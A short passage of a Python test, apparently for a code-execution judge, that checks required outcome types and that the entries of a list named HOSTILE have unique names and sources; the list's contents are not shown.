    assert {Outcome.timeout, Outcome.runtime_error, Outcome.wrong_result, Outcome.invalid} <= required
    names, sources = [h[0] for h in HOSTILE], [h[1] for h in HOSTILE]
    assert len(set(names)) == len(names)
    assert len(set(sources)) == len(sources)
